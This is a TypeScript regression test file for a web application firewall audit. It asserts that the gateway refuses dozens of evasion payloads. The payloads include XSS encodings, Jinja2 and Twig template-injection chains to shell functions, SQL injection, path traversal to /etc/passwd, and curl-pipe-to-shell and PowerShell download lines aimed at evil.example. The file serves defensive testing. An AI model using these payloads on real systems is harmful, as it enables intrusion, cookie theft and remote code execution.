/**
 * Audit 10 (round 3 of the WAF evasion audit): the newest relaxations of the API profile, against the `waf` policy
 * (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording upstream. Targets:
 * the rich-text allowlist of src/waf/profile/html.ts (`sanitizedHtml`: whole e-mail documents, Outlook conditional
 * comments, `<style>`/`<title>` content, attribute and entity quirks, URLs) and its `bareTagsInert` (tags named in
 * prose), and the prose families of src/waf/profile/view.ts (`proseWaivers`: `n` request lines, menu paths, cron
 * schedules, merge tags, PowerShell parentheses, dependency manifests, and the older families). Every technique
 * here is one the gateway stops: the request is refused with the status asserted and the upstream never sees it.
 * The techniques that got through are in the audit's report, not here.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = join(import.meta.dirname, '../../../shared/crs/v4.28.0');
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer =>
  req('POST', '/x', [['Content-Type', 'application/json']], J({ [field]: value }));
/** A URL-encoded form with one field. */
const form = (field: string, value: string): Buffer =>
  req('POST', '/x', [['Content-Type', 'application/x-www-form-urlencoded']], `${field}=${E(value)}`);
/** A multipart/form-data body (boundary `b`) with one field. */
const multipart = (field: string, value: string): Buffer =>
  req(
    'POST',
    '/x',
    [['Content-Type', 'multipart/form-data; boundary=b']],
    `--b\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--b--\r\n`,
  );
const get = (target: string): Buffer => req('GET', target, []);

interface Case {
  readonly name: string;
  readonly status: number;
  readonly build: () => Buffer;
}

const PROSE_TAIL = ' Hello there friend, welcome aboard.';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // sanitizedHtml: comments (Outlook conditional comments, comment-parsing differences)
  {
    name: 'html: handler inside an Outlook conditional comment',
    status: 403,
    build: () => json('body', `<p>${PROSE_TAIL}</p><!--[if mso]><img src=x onerror=alert(1)><![endif]-->`),
  },
  {
    name: 'html: `--!>` ends the conditional comment early (browsers) before a handler',
    status: 403,
    build: () =>
      json('body', `<p>${PROSE_TAIL}</p><!--[if mso]>--!><img src=x onerror=alert(1)><![endif]-->`),
  },
  {
    name: 'html: abruptly closed empty comment `<!-->` before a handler',
    status: 403,
    build: () => json('body', `<p>${PROSE_TAIL}</p><!--><img src=x onerror=alert(1)>-->`),
  },
  {
    name: 'html: downlevel-revealed conditional comment `<!--[if mso]><!-->` around a script',
    status: 403,
    build: () =>
      json('body', `<p>${PROSE_TAIL}</p><!--[if mso]><!--><script>alert(1)</script><!--<![endif]-->`),
  },
  {
    name: 'html: RCDATA <title> turns a conditional comment into text, script URL with &#x09; in the link',
    status: 403,
    build: () =>
      json(
        'body',
        `<title><!--[if mso]></title><a href="java&#x09;script:alert(document.domain)">click</a><![endif]--></title><p>${PROSE_TAIL}</p>`,
      ),
  },
  {
    name: 'html: RCDATA <title> comment trick, &#106 without semicolon and &colon; in the link',
    status: 403,
    build: () =>
      json(
        'body',
        `<title><!--[if mso]></title><a href="&#106avascript&colon;alert(document.domain)">x</a><![endif]--></title><p>${PROSE_TAIL}</p>`,
      ),
  },
  {
    name: 'form: handler inside an Outlook conditional comment',
    status: 403,
    build: () => form('body', `<p>${PROSE_TAIL}</p><!--[if mso]><img src=x onerror=alert(1)><![endif]-->`),
  },
  {
    name: 'multipart: `--!>` early comment end',
    status: 403,
    build: () =>
      multipart('body', `<p>${PROSE_TAIL}</p><!--[if mso]>--!><img src=x onerror=alert(1)><![endif]-->`),
  },
  // sanitizedHtml: RAWTEXT / RCDATA elements
  {
    name: 'html: `</style >` (whitespace) closes the style, then a script',
    status: 403,
    build: () => json('body', `<style>p{color:red}</style ><script>alert(1)</script><p>${PROSE_TAIL}</p>`),
  },
  {
    name: 'html: `</STYLE\\t>` (case and tab) closes the style, then a handler',
    status: 403,
    build: () =>
      json('body', `<style>p{color:red}</STYLE\t><img src=x onerror=alert(1)><p>${PROSE_TAIL}</p>`),
  },
  {
    name: 'html: </title> inside an attribute value of <title> content (RCDATA)',
    status: 403,
    build: () =>
      json('body', `<title><p title="</title><img src=x onerror=alert(1)>">${PROSE_TAIL}</p></title>`),
  },
  {
    name: 'html: </noscript> inside an attribute value (RAWTEXT)',
    status: 403,
    build: () =>
      json(
        'body',
        `<noscript><p title="</noscript><img src=x onerror=alert(1)>">${PROSE_TAIL}</p></noscript>`,
      ),
  },
  {
    name: 'html: </textarea> inside an attribute value (RCDATA)',
    status: 403,
    build: () =>
      json(
        'body',
        `<p>${PROSE_TAIL}</p><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
      ),
  },
  // sanitizedHtml: URLs, entities, attributes, namespaces, meta
  {
    name: 'html: `java&#x09;script:` link',
    status: 403,
    build: () => json('body', `<p>${PROSE_TAIL} <a href="java&#x09;script:alert(1)">x</a></p>`),
  },
  {
    name: 'html: `javascript&colon;` link',
    status: 403,
    build: () => json('body', `<p>${PROSE_TAIL} <a href="javascript&colon;alert(1)">x</a></p>`),
  },
  {
    name: 'html: `&#106;avascript:` link',
    status: 403,
    build: () => json('body', `<p>${PROSE_TAIL} <a href="&#106;avascript:alert(1)">x</a></p>`),
  },
  {
    name: 'html: `/` as attribute separator and a protocol-relative link',
    status: 403,
    build: () =>
      json('body', `<p>${PROSE_TAIL} <a href=//evil.example/x>x</a><img/src=x/onerror=alert(1)></p>`),
  },
  {
    name: 'html: backtick-quoted attribute value before a handler',
    status: 403,
    build: () => json('body', `<p title=\`x\`onmouseover=alert(1)>${PROSE_TAIL}</p>`),
  },
  {
    name: 'html: xmlns prefix declared on <html>, prefixed <x:script>',
    status: 403,
    build: () =>
      json(
        'body',
        `<html xmlns:x="http://www.w3.org/1999/xhtml"><body><x:script>alert(1)</x:script><p>${PROSE_TAIL}</p></body></html>`,
      ),
  },
  {
    name: 'html: <meta http-equiv=refresh> to a script URL',
    status: 403,
    build: () =>
      json('body', `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>${PROSE_TAIL}</p>`),
  },
  {
    name: 'html: <meta charset=utf-7> with UTF-7 markup',
    status: 403,
    build: () =>
      json('body', `<meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-${PROSE_TAIL}</p>`),
  },
  {
    name: 'html: allowed iframe host with srcdoc',
    status: 403,
    build: () =>
      json(
        'body',
        `<p>${PROSE_TAIL}</p><iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>`,
      ),
  },
  {
    name: 'html: social embed loader with a script body',
    status: 403,
    build: () =>
      json(
        'body',
        `<p>${PROSE_TAIL}</p><script async src="https://platform.twitter.com/widgets.js">alert(1)</script>`,
      ),
  },
  {
    name: 'html: entity-encoded markup with a handler in the text',
    status: 403,
    build: () => json('body', `<p>Hello there &lt;img src=x onerror=alert(1)&gt; friend</p>`),
  },
  // bareTagsInert: tags named in prose
  {
    name: 'prose: `</script >` closes a named script element',
    status: 403,
    build: () => json('comment', 'why do <script> tags show up? </script ><script>alert?.(1)'),
  },
  {
    name: 'prose: `<svg onload>` named, then an unclosed script with a call',
    status: 403,
    build: () => json('comment', 'why do <svg> tags show up <svg onload> ok <script>alert(1)'),
  },
  {
    name: 'prose: call with a space before the parenthesis after a named <script>',
    status: 403,
    build: () => json('comment', 'why do <script> tags show up: alert (1) in this page'),
  },
  {
    name: 'prose: plain call after a named <script>',
    status: 403,
    build: () => json('comment', 'why do <script> tags show up: alert(1) in this page'),
  },
  {
    name: 'prose: function reference `[1].map(alert)` after a named <script>',
    status: 403,
    build: () => json('comment', 'why do <script> tags show up: [1].map(alert) in this page'),
  },
  {
    name: 'prose: dynamic import() after a named <script>',
    status: 403,
    build: () =>
      json('message', '<script>import("https://evil.example/x.js") // why do script tags show up here'),
  },
  {
    name: 'query: unclosed <script> with an optional call in a query parameter',
    status: 403,
    build: () =>
      get(
        `/x?comment=${E('<script>fetch?.("https://evil.example/c?" + document.cookie) // why do script tags show up here')}`,
      ),
  },
  {
    name: 'graphql GET: unclosed <script> with an optional call in a variable',
    status: 403,
    build: () =>
      get(
        `/graphql?query=${E('mutation($c:String!){addComment(body:$c){id}}')}&variables=${E(
          J({
            c: '<script>fetch?.("https://evil.example/c?" + document.cookie) // why do script tags show up here',
          }),
        )}`,
      ),
  },
  // Merge tags and template families
  {
    name: 'template: Jinja2 dunder chain next to a plain merge tag',
    status: 403,
    build: () =>
      json('comment', 'Hi {{first_name}}, your order {{config.__class__.__init__.__globals__}} shipped'),
  },
  {
    name: 'template: Jinja2 self._TemplateReference in a merge tag filter argument',
    status: 403,
    build: () =>
      json(
        'comment',
        "Hi {{ first_name | default: self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
      ),
  },
  {
    name: "template: Jinja2 ''.__class__.__mro__ subclasses",
    status: 403,
    build: () => json('comment', "Hi {{first_name}} {{''.__class__.__mro__[1].__subclasses__()}} ok there"),
  },
  {
    name: 'template: Jinja2 dotted merge-tag variable walking to os.environ',
    status: 403,
    build: () => json('comment', 'Hi {{ lipsum.__globals__.os.environ }} thanks for the order'),
  },
  {
    name: 'template: Jinja2 {{ config }} as a plain merge tag',
    status: 403,
    build: () => json('comment', 'Hi {{ config }} thanks for the order today'),
  },
  {
    name: 'template: Jinja2 {{ self }} as a plain merge tag',
    status: 403,
    build: () => json('comment', 'Hi {{ self }} thanks for the order today'),
  },
  {
    name: 'template: Jinja2 {% for %} control tag over os.environ',
    status: 403,
    build: () =>
      json(
        'comment',
        'Hi {% for k in lipsum.__globals__.os.environ %}{{ k }}{% endfor %} thanks for the order',
      ),
  },
  {
    name: "template: Twig ['id']|filter('system')",
    status: 403,
    build: () => json('comment', "Hi {{['id']|filter('system')}} thanks for the order"),
  },
  {
    name: "template: Twig map('system')|join",
    status: 403,
    build: () => json('comment', "Hi {{ ['id'] | map('system') | join }} thanks for the order"),
  },
  {
    name: "template: Twig sort('system')",
    status: 403,
    build: () => json('comment', "Hi {{ ['id'] | sort('system') }} thanks for the order"),
  },
  {
    name: "template: Twig map('passthru') over data",
    status: 403,
    build: () => json('comment', "Hello {{ order.items | map('passthru') | join }} thanks for your order"),
  },
  {
    name: "template: Twig split|filter('shell_exec') over a command reading a system file",
    status: 403,
    build: () =>
      json(
        'comment',
        "Hello {{ 'cat /etc/hostname'|split(',')|filter('shell_exec')|join(',') }} thanks for the order",
      ),
  },
  {
    name: "template: Twig split|filter('passthru') with a probe command (uname -a)",
    status: 403,
    build: () => json('comment', "Hi {{ 'uname -a'|split(',')|filter('passthru') }} thanks for the order"),
  },
  {
    name: "query: Twig split|filter('passthru') in a query parameter",
    status: 403,
    build: () => get(`/x?comment=${E("Hi {{ 'id'|split(',')|filter('passthru') }} thanks for the order")}`),
  },
  {
    name: "graphql GET: Twig split|filter('passthru') in a variable",
    status: 403,
    build: () =>
      get(
        `/graphql?query=${E('mutation($c:String!){addComment(body:$c){id}}')}&variables=${E(
          J({ c: "Hi {{ 'id'|split(',')|filter('passthru') }} thanks for the order" }),
        )}`,
      ),
  },
  // Cron, manifests, PowerShell parentheses, request lines
  {
    name: 'cron: a schedule followed by a download piped to a shell',
    status: 403,
    build: () => json('comment', 'The schedule is */5 * * * * curl evil.example/x.sh | sh every day'),
  },
  {
    name: 'manifest: traversal before package-lock.json',
    status: 403,
    build: () => json('manifest_path', '../../etc/package-lock.json'),
  },
  {
    name: 'manifest: absolute /etc/passwd path ending in package-lock.json',
    status: 403,
    build: () => json('manifest_path', '/etc/passwd/../package-lock.json'),
  },
  {
    name: 'manifest: a lock file named next to a traversal in prose',
    status: 403,
    build: () => json('comment', 'Dependency file ../../../../etc/passwd and package-lock.json please check'),
  },
  {
    name: 'powershell: prose parenthesis holding Invoke-Expression of a download',
    status: 403,
    build: () =>
      json(
        'comment',
        "Run export-csv (Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example/a')) now please",
      ),
  },
  {
    name: 'request line: value with CRLF and a second request',
    status: 403,
    build: () => json('request', 'GET / HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /admin HTTP/1.1'),
  },
  {
    name: 'request line: one-line value with <html> and a script',
    status: 403,
    build: () => json('request', 'GET /a HTTP/1.1 Host: x <html><script>alert(1)</script>'),
  },
  // Older prose families
  {
    name: 'sql: stacked drop between prose about the union plan',
    status: 403,
    build: () =>
      json('comment', 'Please note the union health plan; drop table users; from 38 to 16 for everyone'),
  },
  {
    name: "sql: quote break-out tautology `name' OR '1'='1` in prose",
    status: 403,
    build: () => json('comment', "Please review the name' OR '1'='1 entry for our users today"),
  },
  {
    name: 'sql: delay calls in a sentence about sleep',
    status: 403,
    build: () => json('comment', 'Sleep Better Workshop: sleep(5) and pg_sleep(5) in the notes today'),
  },
  {
    name: 'shell: `; curl … | sh` after a greeting',
    status: 403,
    build: () => json('comment', 'Hi team; curl evil.example/x.sh | sh ok thanks for the help'),
  },
  {
    name: 'shell: cat /etc/passwd in a sentence',
    status: 403,
    build: () => json('comment', 'Hi team, please cat /etc/passwd for the audit and report back'),
  },
  // The round's bypasses, fixed (each reached the upstream before).
  {
    name: 'B1: an unclosed <script> with optional-call code, passed off as a tag named in prose (JSON)',
    status: 403,
    build: () =>
      json(
        'comment',
        '<script>fetch?.("https://evil.example/c?" + document.cookie) // why do script tags show up here',
      ),
  },
  {
    name: 'B1: the same as a form field and a multipart field',
    status: 403,
    build: () => form('comment', '<script>alert?.(document.cookie) // why do script tags show up in my page'),
  },
  {
    name: 'B1: multipart variant with eval of base64',
    status: 403,
    build: () =>
      multipart('comment', '<script>top?.eval?.(atob?.("YWxlcnQoMSk=")) // why do script tags show up here'),
  },
  {
    name: "B2: Twig callable by name through a filter (|filter('passthru')) in a greeting",
    status: 403,
    build: () =>
      json(
        'comment',
        "Hi {{ 'hs|x/elpmaxe.live s- lruc'|reverse|split(',')|filter('passthru') }} thanks for the order",
      ),
  },
  {
    name: 'B2: Twig reduce/sort with a callable name, form and multipart',
    status: 403,
    build: () => form('comment', "{{ first_name|split(',')|sort('passthru') }} thanks for the order today"),
  },
  {
    name: 'partial: a comment opened inside an RCDATA <title> (live overlay link)',
    status: 403,
    build: () =>
      json(
        'body',
        '<title><!--[if mso]></title><a id="x" href="https://evil.example/login" style="position:fixed;top:0;left:0;width:100%;height:100%">Session expired, sign in again</a><![endif]--></title><p>Hello there friend</p>',
      ),
  },
];

describe(
  'audit10: WAF evasions of the newest API-profile relaxations the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners: [{ name: main, host: 127.0.0.1, port: 0 }]
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json(
          'body',
          '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Welcome</title><style>p{color:#333}</style></head>' +
            '<body><!--[if mso]><table role="presentation"><tr><td><![endif]--><p>Hello there friend, welcome aboard.</p>' +
            '<!--[if mso]></td></tr></table><![endif]--></body></html>',
        ),
        json('comment', 'why do <script> tags still show up in innerHTML and <img onerror> handlers not'),
        json('comment', 'Open Documents > Tax and upload the scan please'),
        json('manifest_path', 'web/package-lock.json'),
        json('comment', 'Hi {{first_name}}, your order shipped today and arrives soon'),
        json('request', 'GET /index.html HTTP/1.1'),
        form('body', '<p>Hello there friend, <a href="https://example.com/a?b=1&amp;c=2">docs</a></p>'),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of CASES) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), c.status, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }
  },
);
